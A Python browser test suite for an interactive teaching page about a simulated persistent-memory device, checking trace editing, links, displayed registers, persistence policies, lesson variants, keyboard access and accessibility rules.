"""The page's controls in a real browser: each one by clicks or keys, links that ask for what the page doesn't have, and the rules of
accessible pages."""
import base64
import json
import re
import time
import unittest
from typing import Any, Dict, List, Tuple

from librarymaker import portable
from pagemaker import sources

from . import browser
from .helpers import TOOLS
from .test_page import PAGE, TOP, program

import grading  # noqa: E402  (lessons/ is in the path by test_page)

RULES = (TOOLS / "tests" / "accessibility.js").read_text(encoding="utf-8")
LINE = {byte: byte * 64 for byte in ("11", "22", "33", "77", "88")}
IDLE = "return document.body.dataset.idle === String(pmem.round)"


def logged(words: List[str], trace: str) -> Dict[str, int]:
    """How much work the program's log reports for a trace."""
    text, _ = program([*words, "--log"], trace)
    counts = {name: len(re.findall(rf"(?m)^{name} [0-9]+$", text)) for name in ("look", "line", "latch")}
    for tags, digests in re.findall(r"(?m)^work ([0-9]+) ([0-9]+)$", text):
        counts["tags"] = counts.get("tags", 0) + int(tags)
        counts["digests"] = counts.get("digests", 0) + int(digests)
    return counts


class PageTest(unittest.TestCase):
    """A page in one chromium."""

    shown: browser.Browser

    @classmethod
    def setUpClass(cls) -> None:
        cls.shown = browser.Browser()
        cls.shown.size(1366, 768)

    @classmethod
    def tearDownClass(cls) -> None:
        cls.shown.close()

    def tearDown(self) -> None:
        self.assertEqual(self.shown.errors(), [])

    def open(self, moment: str) -> browser.Browser:
        """Opens the page at a moment, and waits until all of it is shown."""
        self.shown.open(browser.address_of(str(PAGE)) + moment)
        self.shown.wait(IDLE, 240)
        return self.shown

    def at(self) -> Tuple[int, int]:
        place = self.shown.run("return pmem.state.at")
        return place["command"], place["step"]

    def lines(self) -> List[str]:
        """The trace as it stands."""
        found: List[str] = self.shown.run("return pmem.state.lines")
        return found

    def type(self, text: str) -> None:
        """Types a command of one's own and puts it in."""
        self.shown.run("const t = document.querySelector('#typed'); t.value = arguments[0]; t.dispatchEvent(new Event('input'));"
                       "document.querySelector('#own').requestSubmit()", text)

    def edit(self, text: str) -> None:
        """Writes a text into the editor, without using it."""
        self.shown.run("const t = document.querySelector('#text'); t.value = arguments[0]; t.dispatchEvent(new Event('input'))", text)

    def use(self, text: str) -> None:
        """Takes a text as the trace."""
        self.shown.click("#edit")
        self.edit(text)
        self.shown.click("#editing button")


@unittest.skipUnless(browser.is_here(), "chromium or chromedriver isn't there")
class ChangesTest(PageTest):
    """What changes a trace, and what is remembered of it."""

    def test_undo_and_redo(self) -> None:
        page = self.open("#lesson=01&at=1.4")
        given = self.lines()
        page.click("#cut")
        page.click("#on")
        changed = self.lines()
        self.assertEqual(len(changed), len(given) + 2)
        page.press("u", "u")
        self.assertEqual(self.lines(), given)
        page.click("#redo")
        page.press("y")
        self.assertEqual(self.lines(), changed)
        self.assertEqual(page.run("return document.querySelector('#redo').getAttribute('aria-disabled')"), "true")

    def test_history_has_the_trace(self) -> None:
        page = self.open("#lesson=01&at=1.4")
        given = self.lines()
        page.click("#cut")
        page.wait("return location.hash.includes('machine=')", 120)
        page.run("history.back()")
        page.wait("return !pmem.state.lines.includes('cut 4')", 120)
        self.assertEqual(self.lines(), given)
        page.run("history.forward()")
        page.wait("return pmem.state.lines.includes('cut 4')", 120)
        page.press("u")
        self.assertEqual(self.lines(), given)
        self.assertEqual(page.run("return pmem.past.length"), 0)

    def test_reload_keeps_trace_comments_and_undo(self) -> None:
        page = self.open("#lesson=02")
        given = self.lines()
        self.use("# one: a ~ and a _\n\npost 0 0 11*64\n# two & three = 4%\ndrain 0\n")
        kept = ["# one: a ~ and a _", "", f"post 0 0 {LINE['11']}", "# two & three = 4%", "drain 0"]
        self.assertEqual(self.lines(), kept)
        page.wait("return location.hash.includes('trace=')", 120)
        self.assertEqual(grading.trace_of_link(page.run("return location.href")), "\n".join(["# pmem: run", *kept]) + "\n")
        page.of_session("/refresh", {})
        page.wait("return document.body.dataset.ready", 240)
        self.assertEqual(self.lines(), kept)
        self.assertIn("a ~ and a _", page.text("#rows"))
        page.press("u")
        self.assertEqual(self.lines(), given)

    def test_long_trace_has_a_short_link(self) -> None:
        page = self.open("")
        text = "".join(f"post 0 {at % 1024} {LINE['11']}\ndrain 0\n" for at in range(1000))
        self.use(text)
        page.wait("return location.hash.includes('z=')", 120)
        address = page.run("return location.hash")
        self.assertLess(len(address), 9000)
        self.assertEqual(grading.trace_of_link(address), f"# pmem: run\n{text}")
        self.open(address)
        self.assertEqual("\n".join(self.lines()) + "\n", text)
        self.use(text + "stat\n")
        self.assertIn("2000 commands at most", page.text("#notice"))

    def test_faults_while_typing(self) -> None:
        page = self.open("#lesson=01")
        for text, says in (("posd 0 0 11*64", "no such command"), ("post 0 0", "too few or too many words"),
                           ("post 9 0 11*64", "a port is above 7"), ("post 0 0 11", "wrong hex digits")):
            page.run("const t = document.querySelector('#typed'); t.value = arguments[0]; t.dispatchEvent(new Event('input'))", text)
            page.wait(f"return document.querySelector('#typed-fault').innerText.includes({says!r})", 120)
        given = self.lines()
        self.type("posd 0 0 11*64")
        self.assertEqual(self.lines(), given)
        self.assertEqual(page.run("return document.querySelector('#typed').value"), "posd 0 0 11*64")
        self.assertIn("no such command", page.text("#notice"))
        page.click("#edit")
        self.edit("post 0 0 11*64\n\nred 0 0\n")
        page.wait("return document.querySelector('#text-fault').innerText.includes('line 3: no such command')", 120)

    def test_text_is_kept_where_it_cannot_be_put_in(self) -> None:
        page = self.open("#lesson=01&at=1.4")
        self.type("read 0 0")
        self.assertIn("during a command", page.text("#notice"))
        self.assertEqual(page.run("return document.querySelector('#typed').value"), "read 0 0")
        self.open("#lesson=08&at=99.0")
        count = len(self.lines())
        self.type("stat")
        self.assertIn("ended with an exhibit", page.text("#notice"))
        self.assertEqual(len(self.lines()), count)

    def test_bytes_of_a_reply_can_be_copied_and_written(self) -> None:
        """As the question of the second first step needs it: the cipher of zeros is the pad."""
        page = self.open("#lesson=first-2")
        page.run("navigator.clipboard.writeText = async text => { window.copied = text; }")
        self.use("post 0 0 00*64\ndrain 0\npeek 0\n")
        page.press("End")
        page.click("#rows li[data-index='2'] .copy")
        pad = page.wait("return window.copied", 60)
        self.assertEqual(f"raw {pad}\n", program(["run"], f"post 0 0 {'00' * 64}\ndrain 0\npeek 0\n")[0].split("\n", 3)[3])
        self.use(f"post 0 0 {pad}\ndrain 0\npeek 0\n")
        page.click("#judge")
        self.assertIn("Yes", page.text("#verdict"))

    def test_comment_stays_where_it_is_put(self) -> None:
        page = self.open("#lesson=04&at=2.0")
        self.type("# here")
        self.assertEqual(self.at(), (2, 0))
        self.assertEqual(page.run("return pmem.model.commands[2].line"), self.lines().index("# here") + 1)

    def test_editor_can_be_left(self) -> None:
        page = self.open("#lesson=01")
        page.click("#edit")
        shown = page.run("return document.querySelector('#text').value")
        self.assertIn("*64", shown)
        self.assertLess(max(map(len, shown.splitlines())), 120)
        self.edit("garbage")
        page.click("#keep")
        page.click("#edit")
        self.assertEqual(page.run("return document.querySelector('#text').value"), shown)

    def test_files(self) -> None:
        page = self.open("#lesson=06&at=1.0")
        page.run("URL.createObjectURL = blob => { blob.text().then(text => { window.saved = text; }); return 'about:blank#'; };"
                 "HTMLAnchorElement.prototype.click = function () { window.savedAs = this.download; }")
        page.run("pmem.setOption('loss', 2)")
        page.run("document.querySelector('#save').click()")
        saved = page.wait("return window.saved", 120)
        self.assertEqual(saved, "# pmem: run --loss 2\n" + "\n".join(self.lines()) + "\n")
        self.assertEqual(page.run("return window.savedAs"), "lesson-06.trace")
        opens = ("const bytes = Uint8Array.from(atob(arguments[0]), it => it.charCodeAt(0)); const data = new DataTransfer();"
                 "data.items.add(new File([bytes], 'his.trace')); const box = document.querySelector('#file'); box.files = data.files;"
                 "box.dispatchEvent(new Event('change'))")
        text = "# pmem: wear --every 3\nwrite 4 11*64\r\nplace 4\n"
        for encoded in (text.encode("utf-8-sig"), text.encode("utf-16"), b"\xfe\xff" + text.encode("utf-16-be"), text.encode()):
            self.open("#lesson=01")
            page.run(opens, base64.b64encode(encoded).decode())
            page.wait("return document.querySelector('#notice').innerText.includes('his.trace is open')", 120)
            self.assertEqual(self.lines(), [f"write 4 {LINE['11']}", "place 4"])
            self.assertEqual(page.run("return [pmem.state.machine, pmem.state.options.every]"), ["wear", 3])

    def test_machine_keeps_the_trace(self) -> None:
        page = self.open("#machine=run&trace=post_0_5_77x64~post_0_6_88x64~fence_0~peek_5~cut_1~post_0_5_11x64~drain_0~on~read_0_5")
        page.run("const box = document.querySelector('#machine'); box.value = 'tree'; box.dispatchEvent(new Event('change'))")
        self.assertEqual(self.lines(), [f"write 5 {LINE['77']}", f"write 6 {LINE['88']}", "cut 1", f"write 5 {LINE['11']}", "on", "read 5"])
        self.assertIn("1 command that tree doesn't have is left out", page.text("#notice"))
        text, _ = program(["tree"], "\n".join(self.lines()) + "\n")
        self.assertEqual(page.run("return pmem.model.replies.map(reply => reply.answer)"), text.split("\n")[:-1])
        page.press("u")
        self.assertEqual(page.run("return pmem.state.machine"), "run")


@unittest.skipUnless(browser.is_here(), "chromium or chromedriver isn't there")
class ShownTest(PageTest):
    """What is shown of a moment."""

    def changed(self) -> str:
        """The registers that are marked as changed."""
        return str(self.shown.run("return [...document.querySelectorAll('#chip dd.changed')].map(it => it.innerText).join(', ')"))

    def test_registers(self) -> None:
        page = self.open("#lesson=05&at=5.0")
        kept = re.search("refused root ([0-9a-f]{32})", (TOP / "lessons" / "05-replay-of-everything-under-the-old-root" / "replies").read_text())
        assert kept
        self.assertIn(f"{kept[1][:4]}..{kept[1][-4:]}", page.text("#chip dl.registers"))
        page.click("#back")
        page.click("#back")
        page.wait(IDLE, 120)
        self.assertIn("data line 5, tag line of 4 to 7", page.text("#chip dl.registers"))
        self.assertNotIn("none", page.text("#chip dl.registers"))
        page.click("#back")
        page.wait(IDLE, 120)
        self.assertIn("data line 5", self.changed())
        page.click("#back")
        page.wait(IDLE, 120)
        before = page.run("return pmem.roots.get('4.0')")
        self.assertNotEqual(before, kept[1])
        page.click("#next")
        page.wait(IDLE, 120)
        self.assertEqual(page.run("return pmem.roots.get('4.1')"), kept[1])
        self.assertIn(kept[1][:4], self.changed())

    def test_registers_of_a_page_under_way(self) -> None:
        page = self.open("#lesson=07")
        answers = page.run("return pmem.model.run()")
        turns = [(index, answer.split(" ")[1]) for index, (command, answer) in enumerate(answers)
                 if command == "turn" and answer.startswith("ok")]
        index, left = turns[0]
        page.run("pmem.go(arguments[0], 0)", index + 1)
        page.wait(IDLE, 120)
        self.assertIn(f"page 0, {left} lines left", page.text("#chip dl.registers"))
        page = self.open("#machine=run&trace=loss_2~loss_16&at=1.0")
        self.assertIn("stop-loss\n2", page.text("#chip dl.registers"))
        self.assertEqual(self.changed(), "2changed")

    def test_root_of_the_counter_tree(self) -> None:
        trace = f"write 5 {LINE['11']}\npoke 149 {LINE['22']}\noff\non\n"
        text, _ = program(["tree"], trace)
        page = self.open("#machine=tree&trace=write_5_11x64&at=1.0")
        self.assertEqual(page.run("return pmem.roots.get('1.0')"), text.split("\n")[3].split(" ")[2])

    def test_steps_are_those_of_the_log(self) -> None:
        for lesson in ("02", "11", "12", "13"):
            page = self.open(f"#lesson={lesson}")
            words, trace = page.run("return [pmem.model.words, pmem.model.texts.join('\\n') + '\\n']")
            logs = [re.findall(r"(?m)^(?:line|latch) [0-9]+$", part) for part in f"\n{program([*words, '--log'], trace)[0]}".split("\nwork ")]
            with self.subTest(lesson):
                counts = page.run("return pmem.model.commands.map((_, index) => pmem.model.total(index))")
                self.assertEqual(counts, [len(log) for log in logs[:len(counts)]])

    def test_power_off_is_told_from_recovery_without_colour(self) -> None:
        page = self.open("#machine=run&trace=post_0_5_77x64~drain_0~off~peek_5~flip_5_0~on&at=3.0")
        self.assertEqual(page.run("return document.querySelectorAll('#time .strokes').length"), 2)
        self.assertIn("power is off", page.text("#time .legend"))

    def test_states_of_the_device_are_bounded(self) -> None:
        trace = "~".join(f"post_0_{64 * at}_11x64~drain_0" for at in range(12))
        page = self.open(f"#machine=run&options=--levels_3&trace={trace}")
        kept = page.run("for (let i = 0; i < 70; i++) pmem.forward(); for (const [c, s] of [[1, 2], [9, 1], [17, 3]]) pmem.go(c, s);"
                        "return pmem.model.device.states.size * pmem.model.layout.size")
        self.assertGreater(page.run("return pmem.model.layout.size"), 5000)
        self.assertLessEqual(kept, 120000)

    def test_cached_blocks(self) -> None:
        page = self.open("#machine=run&trace=read_0_0&at=1.0")
        cached = page.run("return pmem.cached.get('1')")
        self.assertEqual([at for at, it in enumerate(cached) if it], [0, 1, 5])
        page = self.open("#machine=tree&trace=read_5&at=1.0")
        self.assertEqual([at for at, it in enumerate(page.run("return pmem.cached.get('1')")) if it], [0, 1, 6])

    def test_replies_are_explained(self) -> None:
        page = self.open("#machine=run&trace=post_0_0_11x64~cut_3~drain_0~on&at=4.0")
        self.assertIn("it tried 256 counters, computed 9 digests and made 2 persist steps", page.text("#hint"))
        page.run("document.querySelector('#rows li[data-index=\"0\"] .command').focus()")
        self.assertIn("post <port> <a> <line>", page.text("#hint"))
        page.click("#tab-reference")
        self.assertIn("on <trials> <digests> <s>", page.text("#reference"))
        self.assertFalse(page.run("return document.querySelector('#lesson').checkVisibility()"))

    def test_each_reply_of_the_lessons_is_explained(self) -> None:
        page = self.open("")
        for lesson in sources.lessons():
            lost = page.run("pmem.open(arguments[0]); const {model, reference} = pmem; return model.replies.flatMap(({marks, answer}, i) => ["
                            "...marks.filter(it => !reference.mark(it)), ...reference.answer(model.machine, model.commands[i].word, answer)"
                            " ? [] : [answer]])", lesson["id"])
            with self.subTest(lesson["id"]):
                self.assertEqual(lost, [])

    def test_lines_that_differ_look_different(self) -> None:
        page = self.open("#lesson=10&at=99.0")
        clash = page.run("return pmem.model.exhibit").split(" ")
        shown = page.run("return [...document.querySelectorAll('#rows .said-exhibit')].map(it => it.innerText)")[0].split(" ")
        self.assertNotEqual(clash[2], clash[3])
        self.assertNotEqual(shown[2], shown[3])
        self.open("#lesson=00&at=99.0")
        self.assertIn("raw 00..40..00", page.text("#rows"))

    def test_numbers_of_rows_have_room(self) -> None:
        page = self.open("#lesson=07&at=140.0")
        ends = page.run("const row = document.querySelector('#rows li.due'); const right = css => row.querySelector(css).getBoundingClientRect();"
                        "return [right('.number').right, right('.command').left, right('.number').width]")
        self.assertLessEqual(ends[0], ends[1] + 0.5)
        self.assertGreater(ends[2], 20)

    def test_long_command_is_whole(self) -> None:
        posts = "~".join(f"post_0_{64 * page}_11x64" for page in range(16))
        page = self.open(f"#machine=run&trace={posts}~fence_0&at=16.0")
        total = page.run("return pmem.model.total(16)")
        self.assertGreater(total, 80)
        self.assertEqual(page.run("return document.querySelectorAll('#became tbody tr').length"), total)
        page.run("pmem.go(16, arguments[0])", total - 1)
        page.wait(IDLE, 120)
        self.assertEqual(page.run("return document.querySelector('#became tr.due button').innerText"), str(total - 1))
        self.assertNotIn("..\n", page.text("#became"))
        left = page.run("return document.querySelector('#time .names').getBoundingClientRect().left")
        self.assertGreaterEqual(left, page.run("return document.querySelector('#time').getBoundingClientRect().left"))

    def test_after_an_exhibit(self) -> None:
        page = self.open("#lesson=08&at=99.0")
        self.assertNotIn("..\n", page.text("#chip") + "\n")
        self.assertIn("An exhibit: forged", page.text("#exhibit"))

    def test_two_machines_side_by_side(self) -> None:
        trace = "post_0_5_77x64~drain_0~cut_2~post_0_5_11x64~drain_0~on~read_0_5"
        page = self.open(f"#machine=run&trace={trace}&at=2.0")
        page.run("const box = document.querySelector('#compared-machine'); box.value = 'tree'; box.dispatchEvent(new Event('change'))")
        given = "\n".join(self.lines()) + "\n"
        other = f"write 5 {LINE['77']}\ncut 2\nwrite 5 {LINE['11']}\non\nread 5\n"
        one, two = logged(["run"], given), logged(["tree"], other)
        for name, says in (("look", "lines read"), ("line", "lines written"), ("latch", "latches"), ("tags", "tags"), ("digests", "digests")):
            self.assertIn(f"{says}\t\t{one[name]}\t\t{two[name]}", page.text("#compared tfoot"))
        self.assertIn("on 256 9", page.text("#compared"))
        page.wait("return location.hash.includes('compare=tree')", 120)
        page.run("pmem.compareWith({machine: 'run', options: {...pmem.state.options, loss: 1}})")
        self.assertIn("pmem run --loss 1", page.text("#compared"))

    def test_breakpoints(self) -> None:
        page = self.open("#lesson=02")
        page.press("ArrowDown", "ArrowDown", "b", "Home", "End")
        self.assertEqual(self.at(), (2, 0))
        page.click("#last")
        self.assertEqual(self.at(), (page.run("return pmem.model.replies.length"), 0))
        page.click("#first")
        page.click("#rows li.due .stop")
        self.assertEqual(page.run("return document.querySelectorAll('#rows .stop[aria-pressed=true]').length"), 2)
        page.wait("return location.hash.includes('stops=')", 120)

    def test_verdict_is_of_this_trace(self) -> None:
        page = self.open("#lesson=01")
        page.click("#judge")
        self.assertIn("Not yet", page.text("#verdict"))
        page.click("#next")
        self.assertIn("Not yet", page.text("#verdict"))
        self.type("stat")
        self.assertEqual(page.text("#verdict"), "")


def has_policies() -> bool:
    """Whether the page's module takes the options of persistence policies."""
    return portable.is_current()


@unittest.skipUnless(browser.is_here(), "chromium or chromedriver isn't there")
@unittest.skipUnless(has_policies(), "module/pmem.wasm was made of other sources: tools/module makes it again")
class PolicyTest(PageTest):
    """Persistence policies, durable queues and combining: the program's replies, and what the page shows of them."""

    TRACE = "post_0_5_77x64~drain_0~off~on~read_0_5"

    def choose(self, name: str, value: str) -> None:
        """Chooses an option from its list."""
        self.shown.run("const box = document.querySelector(`#option-${arguments[0]}`); box.value = arguments[1];"
                       "box.dispatchEvent(new Event('change'))", name, value)
        self.shown.wait(IDLE, 240)

    def replies(self) -> List[str]:
        """The answers."""
        found: List[str] = self.shown.run("return pmem.model.replies.map(({answer}) => answer)")
        return found

    def test_strict_persistence(self) -> None:
        """Each write has its path in the group; there are no tables, so no lane for them and nothing to name."""
        page = self.open(f"#machine=run&options=--persist_3_--shadow_off&trace={self.TRACE}&at=1.7")
        self.assertEqual(self.replies()[1:4], ["ok 7", "ok", "on 0 1 0"])
        self.assertEqual(page.run("return pmem.model.step(1, 1).name"), "latch: a group of 5 lines is armed")
        self.assertEqual([page.run("return pmem.model.step(1, arguments[0]).line", step) for step in range(2, 7)], [5, 1025, 1280, 1281, 1285])
        lanes = page.run("return document.querySelector('#time').textContent")
        self.assertIn("counter blocks", lanes)
        self.assertNotIn("shadow", lanes)
        page.wait("return document.querySelector('#chip svg.tree') !== null", 120)
        self.assertIn("Each write also writes its whole path.", page.text("#chip"))
        self.assertNotIn("named in the shadow", page.text("#chip"))
        self.assertIn("./pmem run --persist 3 --shadow off", page.text("#shell"))

    def test_options_by_their_lists(self) -> None:
        page = self.open(f"#machine=run&trace={self.TRACE}&at=0.0")
        self.assertEqual(self.replies()[3], "on 256 9 5")
        self.choose("shadow", "off")
        self.assertEqual(self.replies()[3], "on 4096 21 3")
        self.choose("persist", "2")
        self.assertEqual(self.replies()[1:4], ["ok 6", "ok", "on 0 5 1"])
        page.wait("return location.hash.includes('options=--persist_2_--shadow_off')", 120)

    def test_levels_that_are_too_few(self) -> None:
        """A path of one level has two lines."""
        page = self.open(f"#machine=run&options=--persist_3&trace={self.TRACE}&at=0.0")
        self.choose("levels", "1")
        self.assertEqual(page.text("#notice"), "levels isn't 1 now: persist is at most 2 with levels 1.")
        self.assertEqual(page.run("return [pmem.state.options.levels, document.querySelector('#option-levels').value]"), [2, "2"])
        page = self.open(f"#machine=run&options=--persist_4&trace={self.TRACE}&at=0.0")
        self.assertIn("--persist 4: persist is at most 3 with levels 2", page.text("#notice"))

    def test_a_durable_queue(self) -> None:
        """The write is lost in the cut and waits on; the port sees it, memory doesn't."""
        trace = "post_0_5_77x64~cut_3~drain_0~on~read_0_5~read_1_5~drain_0~read_1_5"
        page = self.open(f"#machine=run&options=--queue_durable&trace={trace}&at=4.0")
        self.assertEqual(self.replies()[2:4], ["cut lost 3", "on 256 9 2"])
        self.assertEqual([answer.split(" ")[1][:2] for answer in self.replies() if answer.startswith("line ")], ["77", "00", "77"])
        self.assertIn("port 0:\n5 77..77", page.text("#chip"))
        self.assertIn("They outlive power.", page.text("#chip"))

    def test_combining(self) -> None:
        page = self.open("#machine=run&options=--combine_on&trace=post_0_5_11x64~post_0_5_22x64~drain_0~drain_0~read_0_5&at=2.0")
        self.assertEqual(self.replies()[2:4], ["ok 7", "empty"])
        self.assertIn("port 0:\n5 22..22\n", page.text("#chip"))
        self.assertNotIn("11..11", page.text("#chip"))

    def test_two_policies_side_by_side(self) -> None:
        page = self.open(f"#machine=run&trace={self.TRACE}&at=2.0")
        page.run("pmem.compareWith({machine: 'run', options: {...pmem.state.options, persist: 3, shadow: 'off'}})")
        self.assertIn("pmem run --persist 3 --shadow off", page.text("#compared"))
        self.assertIn("on 0 1 0", page.text("#compared"))


@unittest.skipUnless(browser.is_here(), "chromium or chromedriver isn't there")
class ReadingTest(PageTest):
    """The lesson, and who can use the page."""

    def test_lesson_has_room(self) -> None:
        page = self.open("#lesson=05")
        self.assertGreater(page.run("return document.querySelector('#reading').clientHeight"), 650)
        page.click("#lesson nav button:last-child")
        self.assertEqual(page.run("return pmem.state.lesson"), "06")
        page.run("document.querySelector('#lesson nav button').click()")
        self.assertEqual(page.run("return pmem.state.lesson"), "05")
        self.assertGreater(page.run("return document.querySelectorAll('#lesson figure svg').length"), 0)
        self.assertNotIn("lessons/grade", page.text("#lesson"))
        self.assertNotIn("./pmem", page.text("#lesson"))

    def test_variants_of_a_question(self) -> None:
        line = 64 + 7 * 617 % 960
        page = self.open("#lesson=00&seed=7")
        self.assertIn(f"Line {line} is written", page.text("#lesson"))
        self.assertIn("Variant 7.", page.text("#lesson .variant"))
        self.use(f"post 0 {line} 11*64\ndrain 0\npeek {1024 + line // 4}\noff\non\npeek {1285 + line // 64}\n")
        page.click("#judge")
        self.assertIn("Yes", page.text("#verdict"))
        page.wait("return location.hash.includes('seed=7')", 120)
        page.of_session("/refresh", {})
        page.wait("return document.body.dataset.ready", 240)
        self.assertIn(f"Line {line} is written", page.text("#lesson"))
        page.run("const box = document.querySelector('#variant'); box.value = '8'; box.dispatchEvent(new Event('change'))")
        self.assertNotIn(f"Line {line} is written", page.text("#lesson"))
        self.use(f"post 0 {line} 11*64\ndrain 0\npeek {1024 + line // 4}\noff\non\npeek {1285 + line // 64}\n")
        page.click("#judge")
        self.assertIn("Not yet", page.text("#verdict"))
        page.run("const box = document.querySelector('#variant'); box.value = ''; box.dispatchEvent(new Event('change'))")
        self.assertIn("Line 200 is written", page.text("#lesson"))
        self.open("#lesson=exercise-1&seed=2")
        self.assertIn(f"The three lines are {2 * 617 % 320}, {320 + 2 * 401 % 320} and {640 + 2 * 229 % 384}", page.text("#lesson"))
        self.assertEqual(self.lines()[1].split(" ")[:3], ["post", "0", str(2 * 617 % 320)])
        for moment in ("#lesson=00&seed=0", "#lesson=00&seed=99999", "#lesson=first&seed=1", "#lesson=00&seed=1e3"):
            self.open(moment)
            self.assertIn("there is no variant", page.text("#notice"))

    def test_links_of_lessons(self) -> None:
        page = self.open("#lesson=00")
        page.run("[...document.querySelectorAll('#lesson a')].find(it => it.hash.startsWith('#lesson=13')).click()")
        page.wait("return pmem.state.lesson === '13'", 120)
        page.click("#undo")
        self.assertEqual(page.run("return pmem.state.lesson"), "00")
        for lesson in sources.lessons():
            for address in re.findall(r'href="([^"]*)"', lesson["text"]):
                if address.startswith("#lesson="):
                    self.assertIn(address[8:], [it["id"] for it in sources.lessons()])
                elif not address.startswith("http"):
                    self.assertTrue((TOP / "page" / address.split("#")[0]).is_file(), address)

    def test_printing(self) -> None:
        page = self.open("#lesson=05")
        page.develop("Emulation.setEmulatedMedia", media="print")
        self.addCleanup(page.develop, "Emulation.setEmulatedMedia", media="")
        for part in ("#lesson", "#reading", "main"):
            self.assertTrue(page.run("const it = document.querySelector(arguments[0]); return it.scrollHeight <= it.clientHeight + 2", part), part)
        self.assertFalse(page.run("return document.querySelector('#machine-pane').checkVisibility()"))
        self.assertGreater(page.run("return document.body.scrollHeight"), 1200)

    def test_keys_leave_reading_alone(self) -> None:
        page = self.open("#lesson=05&at=3.0")
        page.run("document.querySelector('#lesson').focus()")
        page.press("ArrowDown", "ArrowDown", "End", "c")
        self.assertEqual(self.at(), (3, 0))
        page.wait("return document.querySelector('#reading').scrollTop > 0", 120)
        page.run("document.querySelector('#next').focus()")
        page.run("document.querySelector('#help').click(); document.querySelector('#letters').click(); document.querySelector('#keys').close()")
        given = self.lines()
        page.press("c", "o", "b")
        self.assertEqual(self.lines(), given)
        page.press("ArrowRight")
        self.assertEqual(self.at(), (4, 0))
        page.run("document.querySelector('#letters').click()")

    def test_every_part_by_keyboard(self) -> None:
        page = self.open("#lesson=04&at=2.0")
        page.run("document.querySelector('#line-number').focus()")
        page.press("5", "Enter")
        page.wait("return document.querySelector('#bytes h3')?.innerText.startsWith('Line 5: data line 5')", 120)
        page.run("document.querySelector('.bytes button[tabindex=\"0\"]').focus()")
        page.press("ArrowRight", "ArrowDown", "Enter")
        self.assertIn("byte 9:", page.text(".bits"))
        self.assertEqual(page.run("return document.activeElement.dataset.byte"), "9")
        page.press("Tab", "Enter")
        self.assertIn("flip 5 79", self.lines())
        page.run("document.querySelector('#next').focus()")
        page.press("End", "Enter")
        self.assertEqual(page.run("return document.activeElement.id"), "next")
        page.run("document.querySelector('#rows').focus()")
        page.press("Home", "Tab", "Tab", "Tab")
        self.assertEqual(page.run("return document.activeElement.className"), "drop")
        count = len(self.lines())
        page.press("Enter")
        self.assertEqual(len(self.lines()), count - 1)

    def test_options_close_and_theme_is_remembered(self) -> None:
        page = self.open("#lesson=01")
        page.click("#settings summary")
        self.assertTrue(page.run("return document.querySelector('#settings').open"))
        page.press("Escape")
        self.assertFalse(page.run("return document.querySelector('#settings').open"))
        page.click("#settings summary")
        page.click("#now")
        self.assertFalse(page.run("return document.querySelector('#settings').open"))
        theme = "return document.documentElement.dataset.theme"
        before = page.run(theme)
        page.click("#theme")
        self.open("#lesson=02")
        self.assertNotEqual(page.run(theme), before)
        page.click("#theme")

    def test_accessible(self) -> None:
        page = self.shown
        self.addCleanup(page.size, 1366, 768)
        for width in (1366, 900, 360):
            page.size(width, 740)
            for moment in ("#lesson=02&at=12.3&line=5&compare=tree", "#lesson=11&at=2.2&line=5", "#lesson=08&at=99.0"):
                self.open(moment)
                self.assertLessEqual(page.run("return document.documentElement.scrollWidth"), width)
                for _ in ("light", "dark"):
                    page.run("document.querySelector('#theme').click()")
                    with self.subTest(f"{width} {moment}"):
                        self.assertEqual(page.run(RULES), [])

    def test_rules_find_what_breaks_them(self) -> None:
        page = self.open("#lesson=01")
        page.run("document.querySelector('#now').insertAdjacentHTML('beforeend', arguments[0])",
                 "<button>◀</button><p style='color:#999;background:#fff'>faint</p><p tabindex=3>first</p><svg width=9 height=9></svg>"
                 "<table><tr><th>head</th></tr></table><div id=now></div><button style='min-height:0;height:9px;padding:0'>low</button>"
                 "<div style='overflow:auto;height:20px'><p style='height:90px'>long</p></div><h4>deep</h4>")
        found = "\n".join(page.run(RULES))
        for what in ("no name in words", "has a contrast of 2.8", "order of Tab", "without role img", "without a scope", "stands more than once",
                     "by 9 px", "the keyboard can't reach it", "heading of level 4"):
            self.assertIn(what, found)

    def test_steps_stay_near_on_a_phone(self) -> None:
        page = self.shown
        page.size(360, 740)
        self.addCleanup(page.size, 1366, 768)
        self.open("#lesson=02&at=12.3")
        page.run("document.querySelector('#time').scrollIntoView()")
        for part in ("#next", "#time svg"):
            box = page.run("const it = document.querySelector(arguments[0]).getBoundingClientRect(); return [it.top, it.bottom]", part)
            self.assertLess(max(0, box[0]), 740, part)
        page.click("#next")
        self.assertEqual(self.at(), (13, 0))
        page.click("#jumps button:nth-child(1)")
        self.assertEqual(page.run("return document.activeElement.id"), "reading")


@unittest.skipUnless(browser.is_here(), "chromium or chromedriver isn't there")
class LinksTest(PageTest):
    """Links that ask for what the page doesn't have: a message, and a page that works."""

    def test_what_a_link_cannot_have_is_named(self) -> None:
        for moment, says in (
                ("#machine=run&options=--levels_6&trace=stat", "--levels 6: the page takes 1, 2, 3"),
                ("#machine=run&options=--levels_4&trace=stat", "--levels 4"), ("#machine=tree&options=--levels_14&trace=on", "--levels 14"),
                ("#machine=tree&options=--sets_1000000000&trace=on", "--sets 1000000000"),
                ("#machine=run&options=--suite_foo&trace=stat", "--suite foo"), ("#machine=constructor&trace=stat", "no machine constructor"),
                ("#machine=__proto__&trace=stat", "no machine __proto__"), ("#lesson=01&at=1e-1.1e-1", "its moment isn't"),
                ("#lesson=99", "no lesson 99"), ("#machine=run&options=--every_3&trace=stat", "--every: run has no such option"),
                ("#machine=run&options=constructor_3&trace=stat", "constructor: run has no such option"),
                ("#machine=run&trace=stat&line=-1", "no line -1"), ("#machine=run&z=@@@", "its trace is damaged"),
                ("#machine=run&trace=%E0%A4%A", "its trace is damaged"), ("#machine=run&trace=stat&compare=toString", "no machine toString"),
                ("#machine=run&options=--major_99999999999999999999999&trace=stat", "--major"),
                ("#machine=run&trace=" + "%23~" * 6000, "5000 lines")):
            with self.subTest(moment[:80]):
                began = time.monotonic()
                page = self.open(moment)
                self.assertIn(says, page.text("#notice"))
                page.click("#next")
                self.assertLess(time.monotonic() - began, 120)
                self.assertEqual(page.errors(), [])

    def test_lesson_by_its_number(self) -> None:
        page = self.open("#lesson=1")
        self.assertEqual(page.run("return pmem.state.lesson"), "01")

    def test_options_that_the_program_has(self) -> None:
        key, tags = "ab" * 16, "cd" * 3
        words = ["--sets", "3", "--ways", "5", "--major", "18446744073709551614", "--key", key, "--tag-key", tags]
        page = self.open(f"#machine=run&options={'_'.join(words)}&trace=post_0_5_77x64~drain_0~stat&at=1.0")
        text, _ = program(["run", *words], f"post 0 5 {LINE['77']}\ndrain 0\nstat\n")
